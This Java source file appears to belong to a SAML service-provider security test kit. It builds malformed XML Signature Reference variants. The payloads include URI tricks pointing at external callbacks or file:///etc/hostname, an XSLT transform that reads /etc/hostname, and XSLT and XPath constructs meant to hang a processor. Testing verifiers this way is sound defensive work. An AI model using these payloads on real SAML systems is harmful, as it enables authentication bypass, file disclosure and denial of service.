package io.samlsp.testkit;

import static io.samlsp.testkit.AttackScene.DS;

import java.util.ArrayList;
import java.util.Collections;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.function.BiConsumer;
import java.util.function.Consumer;
import org.w3c.dom.Element;

/** What a Reference may not refer to (A9), and how it may not be transformed (A10, F4). */
final class ReferenceAttacks {

  private static final String EXCLUSIVE = SignatureShape.Canonicalization.EXCLUSIVE.uri();
  private static final String ENVELOPED = DS + "enveloped-signature";
  private static final String XSLT = "http://www.w3.org/TR/1999/REC-xslt-19991116";
  private static final String XSL = "http://www.w3.org/1999/XSL/Transform";
  private static final String XPATH = "http://www.w3.org/TR/1999/REC-xpath-19991116";
  private static final String FILTER = "http://www.w3.org/2002/06/xmldsig-filter2";

  private ReferenceAttacks() {}

  static List<Attack> all() {
    List<Attack> all = new ArrayList<>();
    for (SigningMode mode : List.of(SigningMode.RESPONSE, SigningMode.ASSERTION)) {
      uris().forEach((name, change) -> reference(all, mode, name, change));
      structures().forEach((name, change) -> reference(all, mode, name, change));
      transforms()
          .forEach(
              (name, change) ->
                  add(
                      all,
                      AttackClass.A10,
                      "transform/" + name,
                      "transforms of the Reference: " + name,
                      mode,
                      change));
      slowTransforms()
          .forEach(
              (name, change) ->
                  add(
                      all,
                      AttackClass.F4,
                      "slow-transform/" + name,
                      "transforms of the Reference that never end: " + name,
                      mode,
                      change));
    }
    return all;
  }

  private static void add(
      List<Attack> to,
      AttackClass attackClass,
      String id,
      String title,
      SigningMode mode,
      Consumer<Element> change) {
    to.add(
        new Attack(
            attackClass,
            id + "/" + mode.name().toLowerCase(Locale.ROOT),
            title,
            scene -> scene.signedAnew(mode, change)));
  }

  private static void reference(
      List<Attack> to, SigningMode mode, String name, BiConsumer<AttackScene, Element> change) {
    to.add(
        new Attack(
            AttackClass.A9,
            "reference/" + name + "/" + mode.name().toLowerCase(Locale.ROOT),
            "a genuine signature whose Reference is " + name,
            scene -> scene.signedAnew(mode, signature -> change.accept(scene, signature))));
  }

  private static Element reference(Element signature) {
    return AttackScene.find(signature, "Reference");
  }

  private static BiConsumer<AttackScene, Element> uri(String uri) {
    return (scene, signature) -> {
      Element reference = reference(signature);
      String id = reference.getAttributeNS(null, "URI").substring(1);
      AttackScene.rename(reference, "URI", uri.replace("ID", id));
    };
  }

  private static Map<String, BiConsumer<AttackScene, Element>> uris() {
    Map<String, BiConsumer<AttackScene, Element>> uris = new LinkedHashMap<>();
    uris.put("empty", uri(""));
    uris.put("absent", (scene, s) -> reference(s).removeAttributeNS(null, "URI"));
    uris.put("fragment-only", uri("#"));
    uris.put("without-hash", uri("ID"));
    uris.put("xpointer-id", uri("#xpointer(id('ID'))"));
    uris.put("xpointer-root", uri("#xpointer(/)"));
    uris.put("element", uri("#element(/1/3)"));
    uris.put("another-element", uri("#_another"));
    uris.put("percent-encoded", uri("#%5fID"));
    uris.put("with-space", uri("#ID "));
    uris.put("external", (scene, s) -> uri(scene.means().callbackUrl()).accept(scene, s));
    uris.put(
        "external-with-fragment",
        (scene, s) -> uri(scene.means().callbackUrl() + "#ID").accept(scene, s));
    uris.put("file", uri("file:///etc/hostname"));
    return uris;
  }

  private static Map<String, BiConsumer<AttackScene, Element>> structures() {
    Map<String, BiConsumer<AttackScene, Element>> changes = new LinkedHashMap<>();
    changes.put(
        "manifest",
        (scene, s) -> {
          AttackScene.rename(reference(s), "Type", DS + "Manifest");
          Element object = Dom.append(s, DS, "ds:Object");
          Element manifest = Dom.append(object, DS, "ds:Manifest");
          Dom.attribute(manifest, "Id", "_manifest");
          manifest.appendChild(reference(s).cloneNode(true));
          AttackScene.rename(reference(s), "URI", "#_manifest");
        });
    changes.put(
        "object",
        (scene, s) -> {
          Element object = Dom.append(s, DS, "ds:Object");
          Dom.attribute(object, "Id", "_object");
          AttackScene.rename(reference(s), "URI", "#_object");
        });
    changes.put("missing", (scene, s) -> reference(s).getParentNode().removeChild(reference(s)));
    return changes;
  }

  private static Consumer<Element> algorithms(String... algorithms) {
    return signature -> transforms(signature, List.of(algorithms));
  }

  private static Element transforms(Element signature, List<String> algorithms) {
    Element transforms = AttackScene.find(signature, "Transforms");
    Dom.nodes(transforms).forEach(transforms::removeChild);
    Element last = transforms;
    for (String algorithm : algorithms) {
      last = Dom.append(transforms, DS, "ds:Transform");
      Dom.attribute(last, "Algorithm", algorithm);
    }
    return last;
  }

  /** A stylesheet after the enveloped signature is taken out: its template for the root. */
  private static Element template(Element signature) {
    Element transform = transforms(signature, List.of(ENVELOPED, XSLT));
    Element sheet = Dom.append(transform, XSL, "xsl:stylesheet");
    Dom.attribute(sheet, "version", "1.0");
    Element template = Dom.append(sheet, XSL, "xsl:template");
    Dom.attribute(template, "match", "/");
    return template;
  }

  private static void filter(Element transform, String expression) {
    Element path = Dom.append(transform, FILTER, "dsf:XPath", expression);
    Dom.attribute(path, "Filter", "intersect");
  }

  /** A few hundred octets each that keep a processor busy for good. */
  private static Map<String, Consumer<Element>> slowTransforms() {
    Map<String, Consumer<Element>> changes = new LinkedHashMap<>();
    String nested = "//*[count(".repeat(12) + "//*" + ") > 0]".repeat(12);
    changes.put(
        "xslt-recursion",
        s -> {
          Element template = template(s);
          Dom.attribute(template, "name", "again");
          Dom.attribute(Dom.append(template, XSL, "xsl:call-template"), "name", "again");
          Dom.attribute(Dom.append(template, XSL, "xsl:call-template"), "name", "again");
        });
    changes.put(
        "xslt-loops",
        s -> {
          Element loop = template(s);
          for (int i = 0; i < 12; i++) {
            loop = Dom.append(loop, XSL, "xsl:for-each");
            Dom.attribute(loop, "select", "//node()");
          }
        });
    changes.put(
        "xpath-nested",
        s ->
            Dom.append(
                transforms(s, List.of(ENVELOPED, XPATH)),
                DS,
                "ds:XPath",
                "boolean(" + nested + ")"));
    changes.put(
        "xpath-filter-2-nested", s -> filter(transforms(s, List.of(ENVELOPED, FILTER)), nested));
    changes.put(
        "xpath-filter-2-many",
        s -> {
          Element transform = transforms(s, List.of(FILTER));
          for (int i = 0; i < 500; i++) {
            filter(transform, "//. | //@* | //namespace::*");
          }
        });
    return changes;
  }

  private static Map<String, Consumer<Element>> transforms() {
    Map<String, Consumer<Element>> changes = new LinkedHashMap<>();
    changes.put(
        "xslt",
        s ->
            Dom.attribute(
                Dom.append(template(s), XSL, "xsl:copy-of"),
                "select",
                "document('/etc/hostname')"));
    changes.put(
        "xpath",
        s -> {
          Element transform = transforms(s, List.of(ENVELOPED, XPATH));
          Dom.append(transform, DS, "ds:XPath", "not(ancestor-or-self::*)");
        });
    changes.put("xpath-filter-2", s -> filter(transforms(s, List.of(FILTER)), "id('_another')"));
    changes.put("base64", algorithms(DS + "base64"));
    changes.put("decrypt", algorithms("http://www.w3.org/2002/07/decrypt#XML", EXCLUSIVE));
    changes.put("unknown", algorithms(ENVELOPED, "urn:example:unknown"));
    changes.put("three", algorithms(ENVELOPED, EXCLUSIVE, EXCLUSIVE));
    changes.put("enveloped-twice", algorithms(ENVELOPED, ENVELOPED));
    changes.put("reversed", algorithms(EXCLUSIVE, ENVELOPED));
    changes.put("only-enveloped", algorithms(ENVELOPED));
    changes.put("only-canonicalisation", algorithms(EXCLUSIVE));
    changes.put("none", algorithms());
    changes.put(
        "no-algorithm", s -> transforms(s, List.of("")).removeAttributeNS(null, "Algorithm"));
    changes.put(
        "no-transforms",
        s -> {
          Element transforms = AttackScene.find(s, "Transforms");
          transforms.getParentNode().removeChild(transforms);
        });
    changes.put(
        "twice",
        s -> {
          Element transforms = AttackScene.find(s, "Transforms");
          transforms
              .getParentNode()
              .insertBefore(transforms.cloneNode(true), transforms.getNextSibling());
        });
    changes.put("hundreds", s -> transforms(s, Collections.nCopies(500, EXCLUSIVE)));
    return changes;
  }
}
